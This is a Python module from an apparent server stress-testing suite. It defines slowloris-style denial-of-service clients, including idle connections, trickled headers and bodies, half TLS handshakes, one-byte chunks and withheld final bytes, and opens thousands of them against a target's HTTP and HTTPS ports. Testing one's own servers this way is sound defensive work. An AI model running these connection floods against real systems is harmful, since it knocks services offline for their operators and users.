"""Clients that are slow on purpose: in the head, the body, the handshake; or that never say anything."""

import ssl

from attacks import wire
from attacks.exhaustion import Hold, crowd

MEBIBYTE = 1 << 20
# Connections of each kind. A trusted proxy's are not counted by network, so these are as if from everywhere.
IDLE, IDLE_TLS = 18_000, 2_000
SLOW = 4_000


def hello():
    """What a TLS client says first."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = wire.tls_context("http/1.1").wrap_bio(incoming, outgoing, server_hostname="c")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()


HELLO = hello()


class Idle(Hold):
    """Says nothing."""


class IdleTls(Hold):
    """Shakes hands, then says nothing."""

    alpn = "http/1.1"


class SlowHead(Hold):
    """A head that gets longer and never ends."""

    opening = b"POST /report HTTP/1.1\r\nHost: c\r\nX-Slow: "
    pause = 1

    def trickle(self):
        return b"a"


class SlowBody(Hold):
    """A body that was announced, and comes a byte a second."""

    opening = wire.post(b"").replace(b"Length: 0", b"Length: 1000000") + b"["
    pause = 1
    is_over_when_answered = True

    def trickle(self):
        return b" "


class HalfHandshake(Hold):
    """A TLS hello, and nothing after it."""

    opening = HELLO


class HalfHello(Hold):
    """Half a TLS hello."""

    opening = HELLO[: len(HELLO) // 2]


class OneByteChunks(Hold):
    """A body in chunks of one byte, as fast as they are taken."""

    chunks = b"1\r\n[\r\n" * 10_000
    opening = b"POST /report HTTP/1.1\r\nHost: c\r\nTransfer-Encoding: chunked\r\n\r\n"
    pause = 0.002
    is_over_when_answered = True

    def trickle(self):
        return self.chunks


class FullBody(Hold):
    """All of a large body at once but for its last byte, which never comes."""

    opening = wire.post(b" " * MEBIBYTE)[:-1]
    is_over_when_answered = True


def idle(attackers, target):
    crowd(attackers, target.https, IdleTls, IDLE_TLS)
    crowd(attackers, target.http, Idle, IDLE, processes=3)


def slow_head(attackers, target):
    crowd(attackers, target.http, SlowHead, SLOW)


def slow_body(attackers, target):
    crowd(attackers, target.http, SlowBody, SLOW)


def slow_tls(attackers, target):
    crowd(attackers, target.https, HalfHandshake, SLOW // 2)
    crowd(attackers, target.https, HalfHello, SLOW // 2)


def one_byte_bodies(attackers, target):
    crowd(attackers, target.http, OneByteChunks, 64)


def full_bodies(attackers, target):
    """Four times as much as all bodies in flight may have, held as long as the minimum rate lets them."""
    crowd(attackers, target.http, FullBody, 1024)


def together(attackers, target):
    """What takes most memory, at the same time."""
    crowd(attackers, target.http, Idle, IDLE - 2_000, processes=3)
    full_bodies(attackers, target)
